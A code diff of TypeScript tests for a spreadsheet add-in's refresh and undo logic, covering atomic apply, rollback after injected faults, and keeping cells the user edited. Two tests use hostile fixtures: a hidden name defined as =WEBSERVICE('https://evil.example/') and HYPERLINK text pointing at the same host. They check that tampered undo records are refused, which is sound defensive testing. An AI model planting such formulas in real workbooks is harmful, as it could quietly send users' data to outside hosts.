@@ -9,63 +9,41 @@ import {
   userMessage,
 } from "../../../src/excel/errors";
 import { insertTemplate } from "../../../src/excel/insertTemplate";
-import { insertTemplateSpec } from "../../../src/excel/insertCore";
 import { applyRefresh, planRefresh, undoLastRefresh } from "../../../src/excel/refresh";
-import {
-  applyRefreshWith,
-  planRefreshWith,
-  undoLastRefreshWith,
-} from "../../../src/excel/refreshCore";
-import type { RefreshPlan } from "../../../src/excel/refreshCore";
-import {
-  PENDING_KEY,
-  REGISTRY_KEY,
-  UNDO_KEY,
-  parseRegistry,
-} from "../../../src/excel/templateRegistry";
-import type { TemplateRegistry } from "../../../src/excel/templateRegistry";
+import { undoLastRefreshWith } from "../../../src/excel/refreshCore";
+import { PENDING_KEY, REGISTRY_KEY, UNDO_KEY } from "../../../src/excel/templateRegistry";
 import type { LibraryIndex } from "../../../src/model/library/indexLibrary";
 import { buildIndex } from "../../../src/model/library/indexLibrary";
 import { DEFAULT_LIBRARY } from "../../../src/model/library/defaultLibrary";
 import { layerLibrary } from "../../../src/model/library/merge";
 import { LAYOUT, COLUMN } from "../../../src/templates/layout";
-import { fixtureAssumptions, fixtureBuilder } from "./fixtures";
-import { cellAt, defaultIndex, namedCell, newWorkbook, teamIndex } from "./host";
+import {
+  SCENARIO,
+  SHEET,
+  applyFixture as apply,
+  fixtureWorkbook,
+  planFixture as plan,
+  planRow as row,
+  recorded,
+  registryOf,
+} from "./fixtureWorkbook";
+import { cellAt, defaultIndex, namedCell, newWorkbook, teamIndex, typeInto } from "./host";
 import type { Workbook } from "./host";
 import type { JsonValue } from "../../../src/dev/excel-host";
 
-const SCENARIO = "xai-memphis-2024";
-const SHEET = "Rent vs Build";
-const NOW = () => new Date("2026-12-03T09:00:00.000Z");
-const plan = (wb: Workbook, index: LibraryIndex) =>
-  planRefreshWith(wb.excel, index, fixtureAssumptions);
-const apply = (wb: Workbook, p: RefreshPlan, keys: readonly string[]) =>
-  applyRefreshWith(wb.excel, p, keys, { now: NOW });
-
-async function fixtureWorkbook(): Promise<Workbook & { worksheetId: string }> {
-  const wb = newWorkbook();
-  const { worksheetId } = await insertTemplateSpec(
-    wb.excel,
-    fixtureBuilder(defaultIndex, SCENARIO)
-  );
-  wb.stats.reset();
-  return { ...wb, worksheetId };
+/**
+ * Applies a team H100 price (31000) with the registry write failing inside the apply batch and the
+ * rollback's cell write failing too: the apply's own cell write goes through, a pending record stays.
+ */
+async function applyFailingTwice(): Promise<{ wb: Workbook; team: LibraryIndex; error: unknown }> {
+  const wb = await fixtureWorkbook();
+  const team = teamIndex({ systemPricePerGpu: 31000 });
+  const p = await plan(wb, team);
+  wb.host.faults.failOperation({ location: "SettingCollection.add", key: REGISTRY_KEY });
+  wb.host.faults.failOperation({ location: "Range.values", skip: 1 });
+  const error = await apply(wb, p, ["systemPricePerGpu"]).catch((e: unknown) => e);
+  return { wb, team, error };
 }
-
-function registryOf(wb: Workbook): TemplateRegistry {
-  const read = parseRegistry(wb.store.getSetting(REGISTRY_KEY));
-  if (read.status !== "ok") throw new Error(`registry ${read.status}`);
-  return read.registry;
-}
-
-const recorded = (wb: Workbook, id: string, key: string) =>
-  registryOf(wb).sheets[id]?.assumptions[key]?.value;
-
-const row = (p: RefreshPlan, key: string) => {
-  const found = p.rows.find((r) => r.key === key);
-  if (found === undefined) throw new Error(`no row ${key}`);
-  return found;
-};
 
 describe("apply is atomic", () => {
   it("Given the registry write fails inside the apply batch, Then the cell, the registry and the undo record agree, the message says nothing changed, and a later apply + undo brings back 37500", async () => {
@@ -103,14 +81,7 @@ describe("apply is atomic", () => {
   });
 
   it("Given the apply fails and so does its rollback, When the user next checks for updates, Then the pending refresh is reconciled first and the message said so", async () => {
-    const wb = await fixtureWorkbook();
-    const team = teamIndex({ systemPricePerGpu: 31000 });
-    const p = await plan(wb, team);
-    wb.host.faults.failOperation({ location: "SettingCollection.add", key: REGISTRY_KEY });
-    // The apply's own cell write goes through; the rollback's fails.
-    wb.host.faults.failOperation({ location: "Range.values", skip: 1 });
-
-    const error = await apply(wb, p, ["systemPricePerGpu"]).catch((e: unknown) => e);
+    const { wb, team, error } = await applyFailingTwice();
 
     expect(error).toBeInstanceOf(ExcelOperationFailedError);
     expect((error as ExcelOperationFailedError).rolledBack).toBe(false);
@@ -253,8 +224,9 @@ describe("undo is atomic, and refresh keeps provenance with the value (rent-vs-b
     wb.stats.reset();
 
     const error = await undoLastRefresh(wb.excel).catch((e: unknown) => e);
-    // Read + the failed batch, then one more try: read + the failed roll-forward.
-    expect(wb.stats.syncCount).toBe(4);
+    // Read + read the cells + the failed batch, then one more try: read + the failed roll-forward
+    // (which reuses the cells the first try read).
+    expect(wb.stats.syncCount).toBe(5);
     expect(userMessage(error)).toMatch(/Undo last refresh again|Check for updates/);
 
     const again = await planRefresh(wb.excel, dellIndex());
@@ -298,6 +270,25 @@ describe("undo writes only what the template could have written", () => {
     expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
   });
 
+  it("Given a previous formula over a name the record itself lists and that is not a cell of the sheet (a name defined as a WEBSERVICE call), When undoing, Then it is refused", async () => {
+    const wb = await refreshed();
+    wb.store.addName({
+      name: "CP_Leak",
+      formula: '=WEBSERVICE("https://evil.example/")',
+      comment: "",
+      visible: false,
+    });
+    const undo = wb.store.getSetting(UNDO_KEY) as {
+      entryBefore: { assumptions: Record<string, JsonValue> };
+    };
+    undo.entryBefore.assumptions["leak"] = { name: "CP_Leak", value: 0 };
+    wb.store.setSetting(UNDO_KEY, undo as unknown as JsonValue);
+    tamper(wb, { value: 0, formula: "=CP_Leak*1" });
+
+    await expect(undoLastRefreshWith(wb.excel)).rejects.toBeInstanceOf(UnsafeUndoRecordError);
+    expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
+  });
+
   it("Given previous text that looks like a formula, When undoing, Then it is written as text, never as a formula", async () => {
     const wb = await refreshed();
     tamper(wb, { value: '=HYPERLINK("https://evil.example")', formula: null });
@@ -310,6 +301,14 @@ describe("undo writes only what the template could have written", () => {
     tamper(wb, { value: 0.06, formula: "=CP_RentalRate/40+0.01" });
     await undoLastRefreshWith(wb.excel);
     expect(cellAt(wb.store, SHEET, "B7").formula).toBe("=CP_RentalRate/40+0.01");
+  });
+
+  it("Given a user formula that rounds, caps or branches over the sheet's names and cells, When undoing, Then it comes back", async () => {
+    const wb = await refreshed();
+    const formula = "=IF(CP_GpuCount>1000,ROUND(MIN(CP_RentalRate/40,$B$8),4),0.06)";
+    tamper(wb, { value: 0.06, formula });
+    await undoLastRefreshWith(wb.excel);
+    expect(cellAt(wb.store, SHEET, "B7").formula).toBe(formula);
   });
 });
 
@@ -351,5 +350,77 @@ describe("undo after the template was replaced by a sheet of the same name", () 
 
     expect(wb.store.getUsedBounds(impostor.id, false)).toBeNull();
     expect(registryOf(wb).sheets[impostor.id]).toBeUndefined();
+  });
+});
+
+describe("undo and rollback keep what the user changed since the refresh", () => {
+  it("Given two refreshed inputs and one edited by hand afterwards, When undone, Then the edit is kept and listed, the other comes back, in 3 syncs", async () => {
+    const wb = await fixtureWorkbook();
+    const team = teamIndex();
+    await apply(wb, await plan(wb, team), ["systemPricePerGpu", "powerPrice"]);
+    await typeInto(wb.excel, SHEET, "B7", 0.07);
+    wb.stats.reset();
+
+    const result = await undoLastRefreshWith(wb.excel);
+
+    // Read the records, read the cells undo would write, write.
+    expect(wb.stats.syncCount).toBe(3);
+    expect(result).toEqual({
+      restored: 1,
+      notRestored: [],
+      kept: [{ key: "powerPrice", name: "CP_PowerPrice", cells: ["B7"] }],
+    });
+    expect(cellAt(wb.store, SHEET, "B7").value).toBe(0.07);
+    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
+    expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(37500);
+    // The registry keeps what the add-in last wrote there, so the next check calls 0.07 "your edit".
+    expect(recorded(wb, wb.worksheetId, "powerPrice")).toBe(0.081);
+    expect(row(await plan(wb, team), "powerPrice")).toMatchObject({
+      workbookValue: 0.07,
+      isOverride: true,
+      selectedByDefault: false,
+    });
+    expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
+  });
+
+  it("Given a failed apply whose rollback also failed, and the user then edited the half-applied cell, When checking for updates, Then the rollback keeps the edit", async () => {
+    const { wb, team } = await applyFailingTwice();
+    expect(wb.store.getSetting(PENDING_KEY)).toBeDefined();
+    await typeInto(wb.excel, SHEET, "B6", 33000);
+
+    const again = await plan(wb, team);
+
+    expect(cellAt(wb.store, SHEET, "B6").value).toBe(33000);
+    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
+    expect(row(again, "systemPricePerGpu")).toMatchObject({
+      workbookValue: 33000,
+      isOverride: true,
+    });
+  });
+});
+
+describe("undo keeps a source cell the user changed since the refresh (rent-vs-build template)", () => {
+  it("Given the H100 price refreshed and its source then typed over, When undone, Then the price and as-of come back, the typed source stays and is listed", async () => {
+    const wb = newWorkbook();
+    await insertTemplate(wb.excel, defaultIndex, SCENARIO);
+    const price = rowOf("systemPricePerGpu");
+    const asOfBefore = at(wb, `${COLUMN.asOf}${price}`);
+    const priceBefore = namedCell(wb.store, "CP_SystemPricePerGpu").value;
+    await applyRefresh(wb.excel, await planRefresh(wb.excel, dellIndex()), ["systemPricePerGpu"]);
+    await typeInto(wb.excel, SHEET, `${COLUMN.source}${price}`, "Dell quote 7731, signed");
+
+    const result = await undoLastRefresh(wb.excel);
+
+    expect(namedCell(wb.store, "CP_SystemPricePerGpu").value).toBe(priceBefore);
+    expect(at(wb, `${COLUMN.asOf}${price}`)).toBe(asOfBefore);
+    expect(at(wb, `${COLUMN.source}${price}`)).toBe("Dell quote 7731, signed");
+    expect(result.restored).toBe(1);
+    expect(result.kept).toEqual([
+      {
+        key: "systemPricePerGpu",
+        name: "CP_SystemPricePerGpu",
+        cells: [`${COLUMN.source}${price}`],
+      },
+    ]);
   });
 });
